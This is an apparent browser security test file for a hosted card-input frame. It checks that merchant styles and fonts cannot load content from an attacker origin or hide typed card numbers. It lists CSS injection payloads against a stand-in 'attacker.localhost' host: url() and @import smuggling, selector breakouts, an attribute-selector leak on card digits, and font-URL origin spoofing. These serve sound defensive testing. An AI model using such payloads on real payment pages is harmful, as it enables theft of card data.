import { attackerOrigin, shopOrigin, test, type World } from './world/fixtures.ts';
import { prove } from './world/proof.ts';
import { card, inputIn, requestsTo } from './world/shop.ts';
import { fontOrigin } from './world/vaults.ts';

test.describe.configure({ mode: 'parallel' });

const url = `url(${attackerOrigin}/style)`;

/** Values that load something, break out of their place, or bring text of their own. */
const values = [
  url,
  `red; background-image: ${url}`,
  `red} input{background-image:${url}`,
  `red !important; background-image: ${url}`,
  `red/**/;/**/background-image:/**/${url}`,
  `\\75rl(${attackerOrigin}/style)`,
  `image-set("${attackerOrigin}/style" 1x)`,
  `-webkit-image-set(${url} 1x)`,
  `cross-fade(${url}, ${url})`,
  `var(--x, ${url})`,
  `attr(value)`,
  `env(safe, ${url})`,
  `red\n;background-image:${url}`,
  `"a"; background-image: ${url}; x: "`,
];

const properties = [
  ...['backgroundColor', 'color', 'fontFamily', 'fontSize', 'fontVariant', 'letterSpacing', 'lineHeight', 'padding'],
  ...['textDecoration', 'textShadow', 'textTransform', 'background', 'backgroundImage', 'cursor', 'content', 'filter'],
  ...['mask', 'maskImage', 'clipPath', 'listStyleImage', 'borderImage', 'src', '--x', 'animation', 'transition'],
];

/** A style that says each of those values of each property, in each variant and selector. */
const hostileStyle = (value: string) => {
  const rules = Object.fromEntries(properties.map((name) => [name, value]));
  const nested = [':hover', ':focus', '::placeholder', '::selection', ':visited', 'input[value^="4"]', '@media all'];
  const all = { ...rules, ...Object.fromEntries(nested.map((selector) => [selector, rules])) };
  return {
    fonts: [`${attackerOrigin}/style`, `@import ${url}`],
    base: all,
    complete: all,
    invalid: all,
    empty: all,
    [`@import ${url};`]: all,
    [`} @font-face { src: ${url} } x {`]: all,
  };
};

const dress = async (world: World): Promise<string[]> => {
  const page = await world.open(shopOrigin);
  await page.evaluate(([key, style]) => window.attack.mount(key, { number: 'cardNumber' }, { style }), [
    world.accounts.acme.elements,
    hostileStyle(values[0] ?? ''),
  ] as const);
  await inputIn(page, 'number').pressSequentially(card.number);
  for (const value of values) {
    await page.evaluate((style) => window.attack.fields.number?.update({ style } as object), hostileStyle(value));
    // A style that is not laid out loads nothing.
    await inputIn(page, 'number').evaluate((input) => {
      input.getBoundingClientRect();
      return new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    });
  }
  return [...new Set(requestsTo(world, 'attacker.localhost'))];
};

prove('cases 6 and 8: no style and no font loads anything, whatever browsers allow', {
  tag: '@firefox',
  lacking: ['a frame loads no images'],
  guard: 'style values are written by their readers',
  attack: dress,
  held: [],
  fallen: ['GET /style'],
});

prove('cases 6 and 8: no style and no font loads anything, were its values not read', {
  lacking: ['style values are written by their readers'],
  guard: 'a frame loads no images',
  attack: dress,
  held: [],
  fallen: ['GET /style'],
});

const file = `${attackerOrigin}/font`;

/** Fonts from elsewhere: named, in the guise of an allowed origin, behind it, in a style sheet, or in a name. */
const foreignFonts = [
  ...[
    file,
    `${fontOrigin}.attacker.localhost/font`,
    `${fontOrigin}@attacker.localhost/font`,
    `//attacker.localhost/font`,
  ],
  ...[`${fontOrigin}/"), url("${file}`, `${fontOrigin}/?\\"), url("${file}`, `url(${file})`, `local(x), url(${file})`],
  ...[`${fontOrigin}\\@attacker.localhost/font`, `${fontOrigin}:80@attacker.localhost/font`],
].map((src) => ({ family: 'Foreign', src }));
const fonts = [file, `@import url(${file})`, { family: `x; src: url(${file})`, src: `${fontOrigin}/x` }];

/** Gives a frame such fonts and types in them; gives back what was asked of the attacker, whatever host it went by. */
const dressInFonts = async (world: World): Promise<string[]> => {
  const page = await world.open(shopOrigin);
  const style = { base: { fontFamily: 'Foreign' } };
  await page.evaluate(([key, style]) => window.attack.mount(key, { number: 'cardNumber' }, { style }), [
    world.accounts.acme.elements,
    { ...style, fonts: foreignFonts },
  ] as const);
  for (const some of [foreignFonts, fonts]) {
    await page.evaluate(
      (style) =>
        new Promise((resolve) => {
          window.attack.fields.number?.on('warning', resolve);
          window.attack.fields.number?.update({ style } as object);
        }),
      { ...style, fonts: some },
    );
  }
  await inputIn(page, 'number').pressSequentially(card.number);
  const asked = world.requests.filter(({ url }) => url.hostname.endsWith('attacker.localhost'));
  return [...new Set(asked.map(({ method, url }) => `${method} ${url.pathname}`))];
};

prove('case 8: no font comes from where the operator has not allowed it, whatever browsers allow', {
  tag: '@firefox',
  lacking: ['a frame loads fonts from named origins'],
  guard: 'fonts are asked of origins of the operator',
  attack: dressInFonts,
  held: [],
  fallen: ['GET /font'],
});

prove('case 8: no font comes from where the operator has not allowed it, were its address not read', {
  tag: '@firefox',
  lacking: ['fonts are asked of origins of the operator'],
  guard: 'a frame loads fonts from named origins',
  attack: dressInFonts,
  held: [],
  fallen: ['GET /font'],
});

/** Styles under which people type into what they do not see, or are made to see something else. */
const redress = {
  color: 'transparent',
  fontSize: '0px',
  letterSpacing: '-100px',
  lineHeight: '0',
  padding: '0 0 0 9999px',
  textShadow: '9999px 0 red',
  textAlign: 'left; opacity: 0; direction: rtl; unicode-bidi: bidi-override; text-indent: -9999px; visibility: hidden',
};

prove('case 7: no style hides, shrinks, moves or turns what is typed', {
  tag: '@firefox',
  guard: 'style values are written by their readers',
  attack: async (world) => {
    const page = await world.open(shopOrigin);
    await page.evaluate(([key, base]) => window.attack.mount(key, { number: 'cardNumber' }, { style: { base } }), [
      world.accounts.acme.elements,
      redress,
    ] as const);
    await inputIn(page, 'number').pressSequentially(card.number);
    return inputIn(page, 'number').evaluate((input) => {
      const style = getComputedStyle(input);
      return {
        isSeen: !/^rgba\(.*, 0\)$/.test(style.color) && style.opacity === '1' && style.visibility === 'visible',
        isLegible: Number.parseFloat(style.fontSize) >= 10 && style.letterSpacing === 'normal',
        stays: style.textIndent === '0px' && style.paddingLeft === '0px',
        reads: style.direction === 'ltr' && style.unicodeBidi === 'isolate',
        mirrored: input.getAttribute('value'),
      };
    });
  },
  held: { isSeen: true, isLegible: true, stays: true, reads: true, mirrored: null },
  fallen: { isSeen: false, isLegible: false, stays: false, reads: false, mirrored: null },
});
